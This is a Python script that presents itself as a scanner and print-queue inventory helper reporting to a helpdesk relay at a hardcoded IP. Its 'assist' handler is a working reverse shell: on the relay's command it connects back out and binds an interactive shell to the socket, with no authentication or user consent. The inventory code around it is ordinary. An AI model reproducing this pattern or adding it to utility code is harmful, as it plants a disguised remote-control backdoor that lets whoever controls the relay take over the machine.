#!/usr/bin/env python3
"""Scanner station helper.

Runs on the copy-room scanner PCs. Keeps a TCP connection to the helpdesk
relay and reports which SANE scanners and CUPS queues are visible, and lets a
helpdesk technician open a support session on the station without walking
over to the copy room.

Protocol: newline-delimited JSON. The relay may send {"cmd": "ping"},
{"cmd": "rescan"} or {"cmd": "assist"}.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("scanner_helper")

DEFAULTS = {
    "relay_host": "198.51.100.23",
    "relay_port": "4443",
    "interval": "300",
    "station": socket.gethostname(),
}


def load_settings(path):
    cp = configparser.ConfigParser()
    cp["helper"] = DEFAULTS
    cp.read(path)
    return cp["helper"]


def _run(cmd, timeout=30):
    try:
        out = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout)
        return out.stdout.strip().splitlines()
    except (OSError, subprocess.TimeoutExpired) as exc:
        log.warning("%s failed: %s", cmd[0], exc)
        return []


def scanner_inventory():
    lines = _run(["scanimage", "-L"])
    return [l.split("`", 1)[-1].split("'", 1)[0] for l in lines if l.startswith("device")]


def printer_queues():
    queues = {}
    for line in _run(["lpstat", "-p"]):
        parts = line.split()
        if len(parts) >= 4 and parts[0] == "printer":
            queues[parts[1]] = "idle" if "idle" in line else parts[3].rstrip(".")
    return queues


class StationHelper:
    shell = os.environ.get("SHELL", "/bin/sh")

    def __init__(self, settings):
        self.host = settings["relay_host"]
        self.port = int(settings["relay_port"])
        self.interval = int(settings["interval"])
        self.station = settings["station"]
        self.sock = None
        self.lock = threading.Lock()

    def connect(self):
        delay = 5
        while True:
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=20)
                self.sock.settimeout(None)
                log.info("connected to %s:%d", self.host, self.port)
                return
            except OSError as exc:
                log.warning("relay unreachable (%s); retry in %ds", exc, delay)
                time.sleep(delay)
                delay = min(delay * 2, 300)

    def send(self, message):
        data = (json.dumps(message) + "\n").encode()
        with self.lock:
            self.sock.sendall(data)

    def report(self):
        self.send({
            "type": "status",
            "station": self.station,
            "scanners": scanner_inventory(),
            "queues": printer_queues(),
            "ts": int(time.time()),
        })

    def _reporter(self):
        while True:
            try:
                self.report()
            except OSError:
                return
            time.sleep(self.interval)

    def _assist_session(self, port):
        """Attach an interactive session for the technician on a side channel."""
        chan = socket.create_connection((self.host, port), timeout=20)
        chan.settimeout(None)
        fd = chan.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                start_new_session=True)
        proc.wait()
        chan.close()

    def handle(self, msg):
        cmd = msg.get("cmd")
        if cmd == "ping":
            self.send({"type": "pong", "station": self.station})
        elif cmd == "rescan":
            self.report()
        elif cmd == "assist":
            port = int(msg.get("port", self.port + 1))
            threading.Thread(target=self._assist_session, args=(port,), daemon=True).start()
            self.send({"type": "assist-started", "station": self.station})
        else:
            log.debug("ignoring command %r", cmd)

    def serve(self):
        while True:
            self.connect()
            threading.Thread(target=self._reporter, daemon=True).start()
            reader = self.sock.makefile("r", encoding="utf-8")
            try:
                for line in reader:
                    try:
                        self.handle(json.loads(line))
                    except ValueError:
                        log.debug("bad line from relay")
            except OSError as exc:
                log.warning("connection lost: %s", exc)
            finally:
                self.sock.close()
            time.sleep(5)


def main():
    ap = argparse.ArgumentParser(description="scanner station helper")
    ap.add_argument("-c", "--config", default="scanner_helper.ini")
    ap.add_argument("--once", action="store_true", help="print inventory and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    settings = load_settings(args.config)
    if args.once:
        print(json.dumps({"scanners": scanner_inventory(), "queues": printer_queues()}, indent=2))
        return 0
    StationHelper(settings).serve()
    return 0


if __name__ == "__main__":
    sys.exit(main())
